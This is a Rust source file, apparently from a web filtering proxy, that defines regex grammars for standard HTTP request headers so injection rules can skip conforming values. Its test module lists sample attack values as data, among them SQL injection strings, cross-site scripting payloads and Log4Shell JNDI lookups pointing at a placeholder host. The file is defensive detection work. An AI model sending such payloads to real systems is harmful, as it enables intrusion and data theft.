//! Grammars of the standard request headers, so that the rules can leave a conforming
//! standard header alone (`sec-ch-ua: "Chromium";v="120"` looks like SQL to a tokenizer) and
//! inspect one that is not what its name says (`Accept-Language: en' OR 1=1--`, `Origin:
//! javascript:alert(1)`) as they inspect custom headers. Each grammar is a regex compiled
//! once; a value longer than [`MAX_CONFORMING`] never conforms.

use std::collections::HashMap;
use std::sync::LazyLock;

use regex::bytes::Regex;

/// Request headers whose values have a fixed grammar (or their own rules, like
/// `user-agent` and `cookie`), left out of `headers.custom`: injection detectors on them only
/// produce false positives (`sec-ch-ua: "Chromium";v="120"` looks like SQL to a tokenizer).
pub const STANDARD_HEADERS: &[&str] = &[
    "accept",
    "accept-charset",
    "accept-encoding",
    "accept-language",
    "access-control-request-headers",
    "access-control-request-method",
    "authorization",
    "cache-control",
    "connection",
    "content-encoding",
    "content-length",
    "content-type",
    "cookie",
    "dnt",
    "forwarded",
    "host",
    "if-match",
    "if-modified-since",
    "if-none-match",
    "if-range",
    "if-unmodified-since",
    "keep-alive",
    "origin",
    "pragma",
    "priority",
    "proxy-authorization",
    "range",
    "referer",
    "sec-ch-ua",
    "sec-ch-ua-mobile",
    "sec-ch-ua-platform",
    "sec-fetch-dest",
    "sec-fetch-mode",
    "sec-fetch-site",
    "sec-fetch-user",
    "te",
    "traceparent",
    "tracestate",
    "transfer-encoding",
    "upgrade",
    "upgrade-insecure-requests",
    "user-agent",
    "via",
    "x-forwarded-for",
    "x-forwarded-host",
    "x-forwarded-port",
    "x-forwarded-proto",
    "x-real-ip",
    "x-request-id",
];

/// Longer standard header values are inspected whatever they contain.
const MAX_CONFORMING: usize = 4096;

/// Tokens, lists and parameters (`text/html;q=0.9, */*`), quoted strings of the same
/// characters: no quotes outside quoted strings, no `<>`, `\`, backticks, braces or `$`.
const TOKENS: &str = r#"^[A-Za-z0-9!#%&*+.^_|~\-/ \t,;=:?@\[\]]*(?:"[A-Za-z0-9!#%&*+.^_|~\-/ ,;=:?@()'\[\]]*"[A-Za-z0-9!#%&*+.^_|~\-/ \t,;=:?@\[\]]*)*$"#;

static GRAMMARS: LazyLock<HashMap<&'static str, Regex>> = LazyLock::new(|| {
    let lang = r"(?:[A-Za-z]{1,8}(?:-[A-Za-z0-9]{1,8})*|\*)(?:[ \t]*;[ \t]*q[ \t]*=[ \t]*[01](?:\.[0-9]{0,3})?)?";
    let table: &[(&[&str], String)] = &[
        (
            &["accept-language"],
            format!(r"^[ \t]*(?:{lang})?(?:[ \t]*,[ \t]*(?:{lang})?)*[ \t]*$"),
        ),
        (
            &["origin"],
            r"^(?i:null|[a-z][a-z0-9+.\-]*://(?:[a-z0-9\-._~]+|\[[0-9a-f:.]+\])(?::[0-9]{1,5})?)$"
                .into(),
        ),
        (
            &["referer"],
            r"^(?i:[a-z][a-z0-9+.\-]*:)?//?[A-Za-z0-9\-._~:/?#\[\]@!$&()*+,;=%]*$|^/[A-Za-z0-9\-._~:/?#\[\]@!$&()*+,;=%]*$".into(),
        ),
        (
            &["authorization", "proxy-authorization"],
            // `scheme token68` (Basic, Bearer with a JWT) or `scheme k=v, k="v"` (Digest, AWS4).
            r#"^[A-Za-z][A-Za-z0-9!#$%&*+.^_|~\-]*(?:[ ]+(?:[A-Za-z0-9\-._~+/]+=*|[A-Za-z0-9!#$%&*+.^_|~\-]+[ \t]*=[ \t]*(?:[A-Za-z0-9!#$%&*+.^_|~\-/:;]+|"[A-Za-z0-9!#$%&*+.^_|~\-/:=,; @]*")(?:[ \t]*,[ \t]*[A-Za-z0-9!#$%&*+.^_|~\-]+[ \t]*=[ \t]*(?:[A-Za-z0-9!#$%&*+.^_|~\-/:;]+|"[A-Za-z0-9!#$%&*+.^_|~\-/:=,; @]*"))*))?$"#.into(),
        ),
        (
            &["if-modified-since", "if-unmodified-since"],
            r"^[A-Za-z0-9 ,:\-+]*$".into(),
        ),
        (
            &["if-match", "if-none-match", "if-range"],
            r#"^[ \t]*(?:\*|(?:W/)?"[A-Za-z0-9\-_.:+/=]*"(?:[ \t]*,[ \t]*(?:W/)?"[A-Za-z0-9\-_.:+/=]*")*|[A-Za-z0-9 ,:\-+]*)[ \t]*$"#.into(),
        ),
        (&["range"], r"^[A-Za-z]+=[0-9\-, \t]*$".into()),
        (&["dnt", "upgrade-insecure-requests", "sec-ch-ua-mobile"], r"^[ \t]*\??[01]?[ \t]*$".into()),
        (
            &["x-forwarded-for", "x-real-ip", "forwarded", "via", "x-forwarded-host", "x-forwarded-port", "x-forwarded-proto"],
            r#"^[A-Za-z0-9.:\[\], \t\-_=;"/()]*$"#.into(),
        ),
        (
            &["traceparent", "tracestate", "x-request-id"],
            r"^[A-Za-z0-9\-_.=,@*/ :]*$".into(),
        ),
        (
            &["sec-ch-ua", "sec-ch-ua-platform"],
            r#"^[A-Za-z0-9 "?;=.,_\-()/!:]*$"#.into(),
        ),
    ];
    let mut out = HashMap::new();
    for (names, re) in table {
        // The patterns are constants of this file, covered by the tests below.
        if let Ok(r) = Regex::new(re) {
            for n in *names {
                out.insert(*n, r.clone());
            }
        }
    }
    out
});

static TOKEN_LIST: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(TOKENS).ok());

/// Whether a standard header's value fits its grammar. Headers with rules of their own
/// (`user-agent`, `cookie`) and the framing headers the proxy checks before any stage (`host`,
/// `content-length`, `transfer-encoding`) always conform here.
pub fn conforms(name: &str, value: &[u8]) -> bool {
    if matches!(
        name,
        "user-agent" | "cookie" | "host" | "content-length" | "transfer-encoding"
    ) {
        return true;
    }
    if value.len() > MAX_CONFORMING {
        return false;
    }
    match GRAMMARS.get(name) {
        Some(re) => re.is_match(value),
        None => TOKEN_LIST.as_ref().is_some_and(|re| re.is_match(value)),
    }
}

#[cfg(test)]
mod tests {
    use super::conforms;

    #[test]
    fn real_values_conform() {
        for (n, v) in [
            ("accept-language", "en-US,en;q=0.9,fr;q=0.8"),
            ("accept-language", "*"),
            ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
            ("content-type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxk"),
            ("content-type", "application/json; charset=utf-8"),
            ("origin", "https://app.example.com"),
            ("origin", "http://localhost:3000"),
            ("origin", "null"),
            ("referer", "https://www.example.com/search?q=shoes&page=2#top"),
            ("authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_def"),
            ("authorization", "Basic dXNlcjpwYXNz"),
            ("authorization", "AWS4-HMAC-SHA256 Credential=AKIA/20240101/us-east-1/s3/aws4_request, SignedHeaders=host;x-amz-date, Signature=abc123"),
            ("authorization", "Digest username=\"bob\", realm=\"api\", nonce=\"abc\", uri=\"/x\", response=\"f00\""),
            ("if-none-match", "W/\"abc-123\""),
            ("if-modified-since", "Wed, 21 Oct 2015 07:28:00 GMT"),
            ("sec-ch-ua", "\"Chromium\";v=\"120\", \"Not?A_Brand\";v=\"24\""),
            ("cache-control", "no-cache, max-age=0"),
            ("accept-encoding", "gzip, deflate, br, zstd"),
            ("range", "bytes=0-499, 1000-"),
            ("x-forwarded-for", "203.0.113.7, 10.0.0.1"),
        ] {
            assert!(conforms(n, v.as_bytes()), "{n}: {v}");
        }
    }

    #[test]
    fn attacks_do_not_conform() {
        for (n, v) in [
            ("accept-language", "en' OR 1=1--"),
            ("accept-language", "en-US;q=0.9 UNION SELECT"),
            ("origin", "javascript:alert(1)"),
            ("origin", "https://a.example.com/<script>"),
            ("referer", "https://x.example/'><svg onload=alert(1)>"),
            ("authorization", "Bearer ' or '1'='1"),
            ("authorization", "Basic ${jndi:ldap://x/a}"),
            ("accept", "text/html'; DROP TABLE users--"),
            ("cache-control", "${jndi:ldap://x/a}"),
            ("if-none-match", "\"x\" <script>"),
            ("x-forwarded-host", "evil.example/<x>"),
        ] {
            assert!(!conforms(n, v.as_bytes()), "{n}: {v}");
        }
    }
}
